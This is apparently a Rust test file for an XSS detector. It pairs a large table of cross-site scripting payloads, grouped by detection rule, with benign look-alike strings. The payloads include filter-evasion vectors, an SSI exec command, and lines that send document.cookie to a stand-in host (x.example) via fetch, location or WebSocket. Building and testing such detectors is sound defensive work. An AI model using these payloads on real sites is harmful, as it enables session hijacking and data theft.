//! Markup as attackers write it, and what only looks like it.

use super::super::{ByteSet, Hits, Text};
use super::{RULES, detect};

/// The rules that `text` meets.
fn met(text: &str) -> Vec<&'static str> {
    let lower = text.to_ascii_lowercase();
    let mut hits = Hits::default();
    let bytes = ByteSet::of(text.as_bytes());
    detect(Text { raw: text.as_bytes(), lower: lower.as_bytes(), bytes }, &mut hits);
    hits.list().iter().map(|hit| hit.rule.id).collect()
}

/// Attacks by the rule that finds them.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "xss-script-tag",
        &[
            "<script a=`>` src=\"//x.example/y.js\"></script>",
            "<script type=text/vbscript>MsgBox 1</script>",
            "<style type=\"text/javascript\">steal()</style>",
            "<handler ev:event=\"load\">alert(1)</handler>",
            "'';!--\"<XSS>=&{()}",
            "<<a>script>alert(1)<</a>/script>",
            "<scr<!-- -->ipt>alert(1)</script>",
            "<script>steal()</script>",
            "<ScRiPt >x=1</sCrIpT>",
            "<script/y>steal()",
            "<script\n>steal()</script\n>",
            "<<script>steal()//",
            "<script a=\">\">steal()</script>",
            "<script>/* hm */steal()</script>",
            "<script>onerror=steal;throw 1</script>",
            "<script>import'//x.example'</script>",
            "<script src=//x.example>",
            "<script a='>' src=//x.example></script>",
            "<svg><script xlink:href=data:,steal()>",
            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>steal()</x:script>",
            "<script type=module>import('//x.example')",
            "<scr<script>ipt>steal()</script>",
            "<script>debugger</script>",
            "<script type=\"importmap\">{\"imports\":{\"a\":\"//x.example\"}}</script>",
        ],
    ),
    ("xss-script-source", &["<script src=\"../js/app.js\"></script>", "<script src=/y.mjs?v=1>"]),
    (
        "xss-event-handler",
        &[
            "\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
            "<im<b>g src=x oner<b>ror=al<b>ert(1)>",
            "<img src onerror=steal()>",
            "<svg/onload=steal()>",
            "<x onclick=steal()>",
            "<b\tonmouseover\n=\n'steal()'>",
            "<img src=x onerror=steal``>",
            "<img title='>' onerror=steal()>",
            "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
            "<video><source onerror=location='//x.example'>",
            "<p/onnewevent=steal()>",
            "\" onfocus=steal() autofocus x=\"",
            "'onmouseover='alert(1)",
            "x\"/onclick=alert`1`//",
            "onload=alert(1)>",
            "\" tabindex=1 onwheel=steal() a=\"",
            " onwheel=steal() a=",
            "<x onwebkitplaybacktargetavailabilitychanged=steal()>",
            "<noscript><p title=\"</noscript><img src onerror=steal()>\">",
            "<img src=x onError={steal()}>",
            "<img src=x onError={()=>0,steal()}>",
            "<img src=x onError={()=>{}\nsteal()}>",
            "<img src=x onError={function f(){}steal()}>",
            "\" onfocus=()=>0,alert(1) autofocus x=\"",
            "<a href=x ontoggle=\"top['al'+'ert'](1)\">",
        ],
    ),
    (
        "xss-javascript-uri",
        &[
            "<img src=\"mocha:steal()\">",
            "<xml><c>javas<!-- -->cript:alert(1)",
            "<img src=\"javas]]><![CDATA[cript:alert(1)\">",
            "<a href=\"javas\tcript\n:\tcon\nfirm\r``\">",
            "javascript:steal()",
            "<a href=javascript:steal()>",
            "<a href=' JaVaScRiPt:steal()'>",
            "<a href='java\nscr\tipt:steal()'>",
            "<a href=\"\u{1}javascript:steal()\">",
            "<a href=\"javascript:'x';steal()\">",
            "<form action=javascript:alert`1`>",
            "<svg><a xlink:href=javascript:throw/x/>",
            "[click](javascript:steal())",
            "javascript://%0asteal()",
            "javascript:/*-/*`/*\\`/*'/*\"/**/(alert())//",
            "javascript: alert(1)",
            "<a href=\"\u{a38e}javascript:alert(1)\">",
            "<a href='javascript:\" \";steal()'>",
            "<a href='javascript:\"/\";steal()'>",
            "<a href='javascript:void(0);steal()'>",
            "<a href='javascript:void(0)\nsteal()'>",
            "<a href='javascript:void(0) ,steal()'>",
            "<button formaction=//x.example>",
        ],
    ),
    (
        "xss-data-uri",
        &[
            "data:text/html,<b>hi",
            "<iframe src='data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+'>",
            "<script src=data:,steal()>",
            "<use href='data:image/svg+xml,<svg id=x onload=steal()>#x'>",
            "<svg><use href=//x.example/y.svg#z>",
        ],
    ),
    (
        "xss-vbscript-uri",
        &["<a href=\"vbscript:msgbox 1\">", "<a href=vbscript:msgbox(1)>", "vbscript:msgbox(1)"],
    ),
    (
        "xss-expression",
        &[
            "<b style='x:e\\78pression(steal())'>",
            "<// style=x:expression\\28steal()\\29>",
            "<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
            "xss:ex/*XSS*//*/*/pression(alert(1))'>",
            "<b style='width:expression(steal())'>",
            "<b style='x:exp/**/ression(steal())'>",
            "<b style='x:e\\xpression(steal())'>",
            "<b style=behavior:url(#x)>",
            "<style>*{-moz-binding:url(//x.example)}</style>",
        ],
    ),
    (
        "xss-iframe",
        &[
            "<portal src=//x.example>",
            "<webview src=https://x.example>",
            "<iframe src=//x.example>",
            "<iframe srcdoc='<b onclick=steal()>'>",
            "<frame src=x>",
        ],
    ),
    ("xss-object-embed", &["<object data=x>", "<embed src=//x.example>", "<applet code=x.class>"]),
    ("xss-base", &["<base href=//x.example/>"]),
    (
        "xss-meta",
        &[
            "<META HTTP-EQUIV=\"Link\" Content=\"<//x.example/y.css>; REL=stylesheet\">",
            "<meta http-equiv=refresh content='0;url=//x.example'>",
            "<meta content='0;url=data:text/html,x' http-equiv=refresh>",
            "<meta http-equiv=set-cookie content='a=b'>",
            "<meta charset=utf-7>",
        ],
    ),
    (
        "xss-animation",
        &["<svg><animate attributeName=href values=//x>", "<set attributename='onclick' to=steal()>"],
    ),
    ("xss-clobbering", &["<form><input name=attributes>", "<img id='cookie'>"]),
    (
        "xss-dangling-markup",
        &[
            "<img src='//x.example/?leak=",
            "<form action=//x.example><input name=a value=\"",
            "<form action=//x.example><textarea name=x>",
            "<base target='",
        ],
    ),
    (
        "xss-include",
        &["<!--#exec cmd=\"id\" -->", "<!--# include virtual=\"/x\"-->", "<esi:include src=//x/>"],
    ),
    (
        "xss-import",
        &[
            "<LINK REL=\"stylesheet\" HREF=\"//x.example/y.css\">",
            "<style>@import '//x.example/y.css';</style>",
            "<style>@\\import 'java\\script:steal()'</style>",
            "<link rel=import href=x>",
            "<style>input[value^='a']{background:url(//x.example/a)}</style>",
        ],
    ),
    ("xss-utf7", &["+ADw-script+AD4-steal()+ADw-/script+AD4-"]),
    (
        "xss-js-break-out",
        &[
            "1;alert(1)//",
            "alert(1)>//x",
            "';alert(1)//",
            "'-alert(1)-'",
            "\"+confirm(1)+\"",
            "\\';prompt(1)//",
            "'});confirm(1);({'",
            "});alert(1);//",
            "${alert(1)}",
            "x';alert(1);y='",
            "a1b2;alert(1)//c3",
            "'-top.alert(1)-'",
            "';alert()//",
            "';location='//x.example'//",
            "';steal()//",
            "x'-steal()-'",
            "');$(\"body\").html(1);//",
            "';\nsteal()\n'",
            "'in steal() in'",
            "'instanceof steal()//",
        ],
    ),
    (
        "xss-js-call",
        &[
            "1;alert(1)",
            "\"+{valueOf:alert}+\"",
            "'-[alert][0](1)-'",
            "<x @click=alert(1)>",
            "<div x-init=\"alert(1)\">",
            "a=alert,a(1)",
            "Object.prototype.toString=alert",
            "echo('IPT>alert(1)</SCRIPT>')",
            "alert(1)",
            "alert(document.domain)",
            "confirm`1`",
            "(alert)(1)",
            "alert?.(1)",
            "alert?.(document?.cookie)",
            "alert.call(null,1)",
            "[1].find(alert)",
            "top['al'+'ert'](1)",
            "self[/al/.source+/ert/.source](1)",
            "1,alert(1)",
            "1?alert(1):0",
            "/x/.exec('x')||alert(1)",
            "!function(){alert(1)}()",
            "[1].map(x=>alert(1))",
            "$(\"*\").bind(\"focus\",function(){alert(1)})",
            "<b hx-vals='js:{x: alert(1)}'>",
            "<b _=\"on load call alert(1)\">",
            "(0,alert)(1)",
            "[,alert][1](1)",
            "setTimeout(alert,0,1)",
            "document.addEventListener('click',alert)",
            "+{[Symbol.toPrimitive]:alert}",
            "window.onerror=alert;throw 1",
            "expr\\65 ssion(alert(1))",
            "-print()-",
            "((...a)=>a[0](1))(alert)",
            "if(1)alert(1)",
            "delete alert(1)",
            "toString=alert;window+''",
            "window.onload=alert",
            "Promise.reject(1).catch(alert)",
        ],
    ),
    (
        "xss-js-exfiltration",
        &[
            "fetch('//x.example/?'+document.cookie)",
            "location='//x.example/?'+document.cookie",
            "document['cookie']",
            "new WebSocket('wss://x.example/'+document.cookie)",
        ],
    ),
    (
        "xss-js-eval",
        &[
            "eval(atob('c3RlYWwoKQ=='))",
            "eval(String.fromCharCode(97))",
            "setTimeout('alert(1)')",
            "[].constructor.constructor('alert(1)')()",
            "fetch('//x.example').then(r=>r.text()).then(eval)",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
            "document.write('<script src=//x.example>')",
            "onmessage=e=>eval(e.data)",
            "$=~[];$={___:++$}",
            "setInterval`alert(1)`",
            "Array.from`1${alert}3${window}2`",
            "<input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)'>",
            "<x @click=\"_b.constructor`alert(1)`()\">",
        ],
    ),
];

/// What people and programs say that looks like it from afar.
const BENIGN: &[&str] = &[
    "use <b> and <script> tags in the header",
    "`<script>`, `</script>`",
    "The <script> element (see the manual) loads JavaScript",
    "put it between <script> and </script> (or in a file)",
    "I <3 you :-)",
    "h2<h1",
    "if (a < b && c > d) return x;",
    "JavaScript: Basics of JavaScript Language",
    "JavaScript: the good parts",
    "Learn JavaScript: alert() is the first function people see",
    "You can use onclick= or addEventListener",
    "in HTML, onclick=\"...\" is an attribute",
    "<button onClick={handleClick}>Save</button>",
    "<Button onPress={() => navigate('Home')} title=\"Go\" />",
    "<input onChange={e => setName(e.target.value)} />",
    "<Foo onChange={(v) => { setV(v); submit(); }} />",
    "const onLoad = useCallback(() => {}, []);",
    "window.onload = function () { init(); };",
    "el.onclick = () => doIt();",
    "<a href=\"https://example.com/?once=1&online=true\">link</a>",
    "<img src=\"cat.png\" alt=\"a cat\">",
    "<p style=\"color: red; width: calc(100% - 10px)\">x</p>",
    "std::vector<std::string> names(10);",
    "Map<String, List<Integer>> m = new HashMap<>();",
    "https://example.com/path?on=1&onetime=2#frag",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA",
    "the data: text/html is a type",
    "Content-Type: text/html; charset=utf-8",
    "alert the team (now)",
    "alert (bell)",
    "Please confirm (by Friday) that you got it",
    "prompt: write a poem about cats",
    "what does `alert('x')` do?",
    "run alert(1) in the console",
    "alert(1), confirm(2) or prompt(3) block the page",
    "severity=alert; source=disk",
    "[alert] disk full (90)",
    "Notification (alert) sent",
    "promise.then(alert)",
    "this.alerts.push(alert)",
    "<script>…</script>",
    "<style>a[href^=\"http\"] { color: red }</style>",
    "[]()!+[]",
    "passed to `--eval` (or `-e`), or piped to `node`",
    "### `rl.setPrompt(prompt)`",
    "<a href=\"javascript:void(0)\">menu</a>",
    "<a href=javascript:void(0) class=x>menu</a>",
    "type=\"button\" onClick={() => save()} disabled",
    "<a href=\"javascript:;\">x</a>",
    "npm run javascript:build",
    "`<iframe>` and `<object>` are embedded content",
    "<svg width=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>",
    "<svg><use href=\"#icon\"/></svg>",
    "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
    "<link rel=\"stylesheet\" href=\"style.css\">",
    "<base href=\"/\">",
    "<style>body { color: red; background: url(img.png) }</style>",
    "color: expression of joy",
    "if (confirm(\"Sure?\")) { remove(); }",
    "$('#a').click(function(){ alert('hi'); });",
    "setTimeout(() => done(), 100)",
    "await fetch('/api/items').then(r => r.json())",
    "<xs:element name=\"online\" type=\"xs:boolean\"/>",
    "<form action=\"/login\" method=\"post\"><input name=\"user\"></form>",
    "<user@example.com> wrote: hi",
    "<!-- a comment -->",
    "Add <link rel=\"stylesheet\" href=\"https://x.example/y.css\"> to the head",
    "<link rel=\"stylesheet\" href=\"https://x.example/y.css\"><title>x</title>",
    "<p title=\"Java Script: basics\">",
    "toString: () => name, valueOf: number",
    "valueOf: prompt reply",
    "<td>a<b>b</b>c</td>",
    "<button @click=\"save(1)\">",
    "const confirmed = confirm, x = 1",
    "moment: mocha: chai:",
    "<li (click)=\"confirm(item)\">",
    "names = ', '.join(xs)",
    "'a' + steal() + 'b'",
    "don't call f(); it's slow",
    "type=\"button\" data-x=\"1\" onClick={() => save()} disabled",
    "window.onload = init;",
    "const client = new Client(`https://localhost:${server.address().port}`, {",
    "type Props = { onChange?: (v: string) => void };",
];

#[test]
fn each_attack_meets_its_rule() {
    let attacks = ATTACKS.iter().flat_map(|(rule, attacks)| attacks.iter().map(move |attack| (rule, attack)));
    let missed: Vec<_> = attacks
        .filter(|(rule, attack)| !met(attack).contains(rule))
        .map(|(rule, attack)| (rule, attack, met(attack)))
        .collect();
    assert_eq!(missed, []);
}

#[test]
fn each_rule_has_an_attack() {
    for rule in RULES {
        assert!(ATTACKS.iter().any(|(id, attacks)| *id == rule.id && !attacks.is_empty()), "{}", rule.id);
    }
}

#[test]
fn talk_about_html_is_none() {
    let found: Vec<_> =
        BENIGN.iter().filter(|text| !met(text).is_empty()).map(|text| (text, met(text))).collect();
    assert_eq!(found, []);
}

#[test]
fn a_handler_of_any_element_and_event_is_found() {
    let events = ["onabort", "onbegin", "oncontentvisibilityautostatechange", "onwheel", "onneverheardof"];
    for element in ["a", "b", "details", "my-element", "svg:g", "image2", "x"] {
        for event in events {
            for space in [" ", "/", "\t", "\n", "\x0c", " a=b ", " a='b'", "/a=\"b\"/"] {
                for value in
                    ["steal()", "'steal()'", "\"steal()\"", "steal``", "&#97;lert(1)", "{steal()}", "x=y"]
                {
                    let text = format!("<{element}{space}{event}={value}>");
                    assert_eq!(met(&text), ["xss-event-handler"], "{text}");
                }
            }
        }
    }
}

#[test]
fn an_address_that_is_code_is_found_in_any_attribute() {
    for attribute in
        ["href", "src", "action", "formaction", "xlink:href", "background", "poster", "to", "values"]
    {
        for scheme in ["javascript:", "java\tscript:", " javascript:", "JAVASCRIPT :", "vbscript:"] {
            let text = format!("<x {attribute}=\"{scheme}steal()\">");
            assert!(!met(&text).is_empty(), "{text}");
        }
    }
}

#[test]
fn any_cut_of_any_attack_is_looked_at_without_a_panic() {
    for (_, attacks) in ATTACKS {
        for attack in *attacks {
            for (cut, _) in attack.char_indices() {
                let (head, tail) = attack.split_at(cut);
                let _ = (met(head), met(tail));
            }
        }
    }
}
